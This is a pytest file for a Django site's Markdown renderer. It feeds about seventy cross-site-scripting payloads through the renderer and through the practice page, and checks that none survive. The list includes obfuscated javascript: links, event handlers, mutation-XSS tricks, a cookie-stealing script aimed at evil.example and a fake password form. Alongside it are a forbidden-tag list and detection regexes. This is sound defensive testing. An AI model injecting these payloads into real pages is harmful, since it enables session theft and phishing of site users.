"""A practice's Markdown is rendered safely (issue 8, item 2): XSS payloads never reach the page,
the safe Markdown features still work.

Every payload goes through render_markdown and through the practice page a member opens.
The checks read the result the way a browser does (an HTML parser, entities decoded once),
not by searching for the payload's own spelling.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils import timezone

from buyersgroup.core.markdown import render_markdown
from buyersgroup.moderation.models import Status
from practices.models import PracticeType
from tests.practices.factories import PracticeFactory

XSS_PAYLOADS = [
    # Script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<script type="text/javascript">document.location="https://evil.example/?"+document.cookie</script>',
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<p onclick="alert(1)">click</p>',
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    "<div/onmouseover='alert(1)'>x</div>",
    # javascript: and vbscript: links, any case, entities, whitespace in the scheme
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    # (Markdown expands this tab to spaces; a browser reads "java   script:" as a relative link, not a scheme.)
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    # Frames, objects, embeds, MathML
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">CLICK</math>',
    # target=_blank, styles and CSS expressions
    '<a href="https://evil.example" target="_blank">new window</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body { background: url('javascript:alert(1)') }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Forms, meta refresh, base
    '<form action="https://evil.example"><input name="password" type="password"><button>Log in</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # Markdown tricks
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "![x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    '**bold <img src=x onerror=alert(1)>**',
    "- item <script>alert(1)</script>\n- item 2",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> quote <iframe src=https://evil.example></iframe>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    # Comments hiding tags, unclosed tags, broken nesting
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<script>alert(1)",
    '<a href="javascript:alert(1)">unclosed',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "svg", "math", "object", "embed", "applet", "style", "link", "form",
    "input", "button", "textarea", "select", "meta", "base", "img", "details", "body", "html", "template",
    "noscript", "xml",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "background", "poster"}
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)


def as_browser_reads(url: str) -> str:
    """The WHATWG URL parser's first steps: C0 controls and spaces trimmed, tabs and newlines removed."""
    return re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))


class _Collector(HTMLParser):
    """The tags and attributes a browser would build from ``html``."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def parsed(html: str):
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_harmless(html: str) -> None:
    assert "<script" not in html.lower()
    for tag, attrs in parsed(html):
        assert tag not in FORBIDDEN_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} survived in {html!r}"
            assert name != "style", f"style attribute survived in {html!r}"
            assert name != "target", f"target attribute survived in {html!r}"
            if name in URL_ATTRIBUTES:
                assert not DANGEROUS_SCHEME.match(as_browser_reads(value or "")), (
                    f"{name}={value!r} survived in {html!r}"
                )
        if tag == "a":
            assert dict(attrs).get("rel") == "noopener noreferrer"
    # Also the text a browser would never parse as markup: no handler or scheme written as an attribute.
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.IGNORECASE)
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*(javascript|vbscript|data):""", html, re.IGNORECASE)


def test_at_least_25_payloads():
    assert len(XSS_PAYLOADS) >= 25
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_does_not_survive_rendering(payload):
    assert_harmless(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_does_not_survive_inside_a_document(payload):
    """The payload in the middle of ordinary Markdown, as a member would hide it."""
    html = render_markdown(f"## Context\n\nWe bought laptops.\n\n{payload}\n\n- one\n- two\n\n{payload}")
    assert_harmless(html)
    assert "<h4>Context</h4>" in html


def _text_section(page: str) -> str:
    match = re.search(r'id="practice-text">(.*?)</div>\s*</section>', page, re.DOTALL)
    assert match, "the practice's text is not on its page"
    return match.group(1)


@pytest.fixture
def published_practice(alice):
    def make(body: str, recommendations: str = ""):
        return PracticeFactory(
            author=alice, status=Status.PUBLISHED, published_at=timezone.now(), body=body,
            recommendations=recommendations, practice_type=PracticeType.REPORT,
        )

    return make


@pytest.mark.django_db
def test_no_payload_reaches_the_practice_page(client, carol, published_practice):
    client.force_login(carol)
    body = "\n\n".join(["# Our report", *XSS_PAYLOADS])
    practice = published_practice(body, recommendations="\n\n".join(XSS_PAYLOADS[:20]))
    page = client.get(practice.get_absolute_url()).content.decode()

    section = _text_section(page)
    assert "<h3>Our report</h3>" in section
    assert_harmless(section)
    recommendations = re.search(r'<section class="card recommendations".*?</section>', page, re.DOTALL).group(0)
    assert_harmless(recommendations.split('class="prose">', 1)[1])
    # The rest of the page has no more scripts, handlers or dangerous links than a harmless practice's page.
    harmless = published_practice("Nothing special.", recommendations="Nothing either.")
    baseline = client.get(harmless.get_absolute_url()).content.decode()
    assert _danger_counts(page) == _danger_counts(baseline)


def _danger_counts(page: str) -> dict[str, int]:
    patterns = {
        "script": r"<script", "handler": r"<[^>]*\son\w+\s*=", "scheme": r"=\s*[\"']?\s*(javascript|vbscript|data):",
        "frame": r"<(iframe|object|embed|svg|math|form|style|meta|base)\b", "style": r"\sstyle\s*=",
    }
    return {name: len(re.findall(pattern, page, re.IGNORECASE)) for name, pattern in patterns.items()}


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_each_payload_on_its_own_practice_page(client, carol, published_practice, payload):
    client.force_login(carol)
    practice = published_practice(f"Before.\n\n{payload}\n\nAfter.")
    response = client.get(practice.get_absolute_url())
    assert response.status_code == 200
    section = _text_section(response.content.decode())
    assert "<p>Before.</p>" in section  # an unclosed tag may swallow what follows it, never what precedes
    assert_harmless(section)


SAFE_MARKDOWN = """\
# Take-back of laptops

We asked the supplier to **take back** the old laptops and *refurbish* them.

## What we required

1. A certificate of data erasure for every device
2. A report of what was reused and what was recycled

- TCO Certified or equivalent
- Five years of warranty

| Criterion | Where | Weight |
|-----------|-------|--------|
| CIRC-WARR | award | 20 % |
| EOL-TAKEBACK | clause | — |

> The market was ready: four bids, two from social-economy refurbishers.

Read the [EU GPP criteria](https://green-business.ec.europa.eu/green-public-procurement_en "EU GPP") or
write to [the secretariat](mailto:secretariat@example.org).

```
The contractor takes back the devices at the end of their use.
```

Inline `CIRC-REFURB` code and ~~old~~ text.
"""


def test_safe_markdown_features_render():
    html = render_markdown(SAFE_MARKDOWN)
    assert "<h3>Take-back of laptops</h3>" in html
    assert "<h4>What we required</h4>" in html
    assert "<h1" not in html and "<h2" not in html
    assert "<strong>take back</strong>" in html and "<em>refurbish</em>" in html
    assert re.search(r"<ol>\s*<li>A certificate of data erasure for every device</li>", html)
    assert re.search(r"<ul>\s*<li>TCO Certified or equivalent</li>", html)
    assert re.search(r"<table>\s*<thead>\s*<tr>\s*<th>Criterion</th>", html)
    assert "<td>CIRC-WARR</td>" in html and "<td>20 %</td>" in html
    assert re.search(r"<blockquote>\s*<p>The market was ready", html)
    assert (
        '<a href="https://green-business.ec.europa.eu/green-public-procurement_en" title="EU GPP" '
        'rel="noopener noreferrer">EU GPP criteria</a>'
    ) in html
    assert '<a href="mailto:secretariat@example.org" rel="noopener noreferrer">the secretariat</a>' in html
    assert "<pre><code>The contractor takes back the devices at the end of their use.\n</code></pre>" in html
    assert "<code>CIRC-REFURB</code>" in html
    assert_harmless(html)


def test_safe_html_written_by_hand_is_kept_and_cleaned():
    html = render_markdown('<a href="HTTPS://example.org/x" target="_blank" class="big">ok</a> and <b>bold</b>')
    assert '<a href="HTTPS://example.org/x" rel="noopener noreferrer">ok</a>' in html
    assert "<b>bold</b>" in html


def test_code_blocks_show_markup_as_text():
    html = render_markdown("```\n<script>alert(1)</script>\n```")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script" not in html


def test_empty_text_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown("   \n ") == ""


@pytest.mark.django_db
def test_safe_markdown_on_the_practice_page(client, carol, published_practice):
    client.force_login(carol)
    practice = published_practice(SAFE_MARKDOWN, recommendations="- Ask for **five years** of updates\n- Reuse first")
    page = client.get(practice.get_absolute_url()).content.decode()
    section = _text_section(page)
    assert "<h3>Take-back of laptops</h3>" in section
    assert "<table>" in section and "<blockquote>" in section and "<pre><code>" in section
    assert 'rel="noopener noreferrer">EU GPP criteria</a>' in section
    assert "<li>Ask for <strong>five years</strong> of updates</li>" in page
